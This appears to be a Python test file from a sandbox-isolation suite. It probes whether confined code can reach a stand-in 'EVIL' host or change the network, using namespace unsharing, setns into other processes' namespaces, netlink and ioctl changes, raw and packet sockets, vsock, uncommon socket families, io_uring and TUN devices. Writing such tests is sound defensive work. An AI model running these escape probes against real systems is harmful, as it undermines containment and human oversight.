"""Through the kernel: namespaces, raw and packet sockets, other socket families,
devices, and the configuration of the network."""

import ctypes
import fcntl
import os
import struct

from attack import *

EVIL = "198.51.100.66"
NEWUSER, NEWNET, NEWNS = 0x10000000, 0x40000000, 0x00020000
libc = ctypes.CDLL(None, use_errno=True)


def check(result, what):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)
    return result


def in_child(f):
    """f in a process of its own: what it does to itself ends with it."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            answer = f() or b""
        except BaseException as e:
            answer = f"{type(e).__name__}: {e}".encode()
        os.write(w, answer[:4096])
        os._exit(0)
    os.close(w)
    got = b""
    while part := os.read(r, 4096):
        got += part
    os.close(r)
    os.waitpid(pid, 0)
    return got


def loopback_up():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        fcntl.ioctl(s, 0x8914, struct.pack("16sh22x", b"lo", 1 | 64))


def in_new(flags):
    def f():
        uid, gid = os.getuid(), os.getgid()
        check(libc.unshare(flags), "unshare")
        if flags & NEWUSER:
            open("/proc/self/setgroups", "w").write("deny")
            open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
            open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
        if flags & NEWNET:
            loopback_up()
        return tcp(EVIL, 80)

    return in_child(f)


case("a new user namespace")(lambda: in_new(NEWUSER))
case("a new network namespace", control=False)(lambda: in_new(NEWNET))
case("new user and network namespaces", control=False)(lambda: in_new(NEWUSER | NEWNET))
case("new user, network and mount namespaces", control=False)(lambda: in_new(NEWUSER | NEWNET | NEWNS))


@case("joining the network namespaces that /proc shows", control=False)
def joined():
    def f():
        answer = b""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
                check(libc.setns(fd, NEWNET), "setns")
                answer += tcp(EVIL, 80)
            except OSError as e:
                answer += f"{pid}: {e.strerror} ".encode()
        return answer

    return in_child(f)


def rtattr(kind, data):
    return struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)


def netlink(kind, body, flags=0x605):
    """A request that changes something; what the kernel says of it."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(TIMEOUT)
        s.send(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        answer = s.recv(65536)
        error = struct.unpack("i", answer[16:20])[0]
        if error:
            raise OSError(-error, os.strerror(-error))
        return b"CANARY changed"


def private(f):
    """On the host in a namespace of its own: the test needs its network."""

    def attack():
        if not on_host():
            return f()

        def alone():
            check(libc.unshare(NEWNET), "unshare")
            loopback_up()
            return f()

        return in_child(alone)

    return attack


ADDRESS = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, 1) + rtattr(2, socket.inet_aton("203.0.113.9")) + rtattr(1, socket.inet_aton("203.0.113.9"))
ROUTE = struct.pack("BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 4, 253, 1, 0) + rtattr(4, struct.pack("i", 1))
DUMMY = struct.pack("BxHiII", 0, 0, 0, 0, 0) + rtattr(3, b"attack0\0") + rtattr(18, rtattr(1, b"dummy\0"))
LINK = struct.pack("BxHiII", 0, 0, 1, 0, 1)

case("netlink: a new address")(private(lambda: netlink(20, ADDRESS)))
case("netlink: a default route")(private(lambda: netlink(24, ROUTE)))
case("netlink: a new link", control=False)(private(lambda: netlink(16, DUMMY)))
case("netlink: loopback taken down")(private(lambda: netlink(16, LINK, 5)))


@case("ioctl: another address for loopback")
@private
def ioctl_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        fcntl.ioctl(s, 0x8916, struct.pack("16sH2x4s16x", b"lo", socket.AF_INET, socket.inet_aton("198.51.100.66")))
    return b"CANARY changed"


def ip_packet():
    body = struct.pack(">HHHH", 9999, 9999, 8 + 5, 0) + b"hello"
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0, socket.inet_aton("198.18.0.2"), socket.inet_aton(EVIL))
    total = sum(struct.unpack(">10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack(">H", 0xFFFF - total) + head[12:] + body


@case("a raw IP socket")
def raw_ip():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) as s:
        return b"CANARY" if s.sendto(ip_packet(), (EVIL, 0)) else b""


@case("a packet socket")
def packet():
    sent = b""
    for _, device in socket.if_nameindex():
        with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800) as s:
            if s.sendto(ip_packet(), (device, 0x0800, 0, 0, b"\xff" * 6)) and device != "lo":
                sent += b"CANARY"
    return sent


@case("packet sockets in new user and network namespaces", control=False)
def packet_in_user_namespace():
    def f():
        check(libc.unshare(NEWUSER | NEWNET), "unshare")
        return b"CANARY" if [d for _, d in socket.if_nameindex() if d != "lo"] and packet() else b"nothing but loopback"

    return in_child(f)


for cid, whose in ((0, "the hypervisor"), (1, "this machine"), (2, "the host"), (3, "a guest")):

    def vsock(cid=cid):
        answer = b""
        for port in (22, 80, 1024, 9999, 52000):
            with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
                s.settimeout(TIMEOUT)
                s.connect((cid, port))
                answer = b"CANARY connected"
        return answer

    case(f"vsock to {whose}", control=False)(vsock)

FAMILIES = {"AF_AX25": 3, "AF_X25": 9, "AF_RDS": 21, "AF_CAN": 29, "AF_TIPC": 30, "AF_BLUETOOTH": 31, "AF_ALG": 38, "AF_NFC": 39, "AF_KCM": 41, "AF_QIPCRTR": 42, "AF_SMC": 43, "AF_XDP": 44}
for family, number in FAMILIES.items():

    def other(number=number):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
            try:
                socket.socket(number, kind).close()
                return b"CANARY a socket"
            except OSError as e:
                last = e
        raise last

    case(f"sockets of {family}", control=False)(other)


@case("a socket from io_uring", control=False)
def io_uring():
    return b"CANARY" if check(libc.syscall(425, 8, ctypes.byref(ctypes.create_string_buffer(120))), "io_uring_setup") else b""


@case("a TUN device", control=False)
def tun():
    for name in ("/dev/net/tun", "/tmp/tun"):
        try:
            if name == "/tmp/tun":
                os.mknod(name, 0o20600, os.makedev(10, 200))
            with open(name, "r+b", buffering=0) as f:
                fcntl.ioctl(f, 0x400454CA, struct.pack("16sH22x", b"tun0", 1))
                return b"CANARY a device"
        except OSError as e:
            last = e
    raise last


main()
